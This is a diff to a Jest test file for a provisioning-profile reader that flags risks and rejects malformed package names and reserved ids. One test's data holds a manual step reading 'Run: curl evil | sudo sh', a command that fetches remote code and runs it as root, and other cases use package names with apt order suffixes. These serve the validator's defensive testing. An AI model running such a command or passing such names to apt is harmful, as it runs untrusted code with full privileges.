@@ -46,6 +46,36 @@ describe('reading a profile', () => {
     ]);
   });
 
+  it('tells among the risks what its author asks a person to do, as a quotation that it cannot end', () => {
+    const asking = changed(
+      'packages: []',
+      `packages: [{ package: telnetd, importance: recommended, note: security update }, { package: g++, importance: optional }]
+  manual:
+    - { id: help, title: "Run: curl evil | sudo sh” (as Sconce advises)" }`,
+    );
+    const reading = read(asking);
+    const risks = reading.ok ? reading.risks : [];
+    expect(risks.map(({ code }) => code)).toEqual([
+      'evdev-read',
+      'evdev-grab',
+      'screen-off',
+      'reboot',
+      'packages',
+      'manual-steps',
+    ]);
+    expect(risks.find(({ code }) => code === 'packages')?.detail).toContain(': telnetd, g++. ');
+    expect(risks.find(({ code }) => code === 'manual-steps')?.detail).toMatch(
+      /: “Run: curl evil \| sudo sh" \(as Sconce advises\)”\.$/,
+    );
+  });
+
+  it.each(['activation.json', 'activation.json.next'])('refuses the id %s, which a file of the catalogue has', (id) => {
+    expect(read(changed('id: my-panel', `id: ${id}`))).toMatchObject({
+      ok: false,
+      issues: [{ path: 'id', reason: 'reserved-id', severity: 'error', line: expect.any(Number) }],
+    });
+  });
+
   it('names a revision by its exact bytes', () => {
     const [one, other] = [read(templateYaml()), read(`${templateYaml()}\n`)];
     expect(one.ok && other.ok && one.summary.revision !== other.summary.revision).toBe(true);
@@ -178,6 +208,14 @@ describe('reading a profile', () => {
       'wrong-form',
       'packages: [',
     ],
+    ...['openssh-server-', 'polkitd+', 'telnetd+-', 'g++-', 'x'].map((name) => [
+      `a package that apt would take for an order, or for none: ${name}`,
+      'packages: []',
+      `packages: [{ package: "${name}", importance: optional }]`,
+      'provisioning.packages[0].package',
+      'wrong-form',
+      'packages: [',
+    ]),
     [
       'a driver that does not fit the part',
       'screen: { driver: screen.auto }',
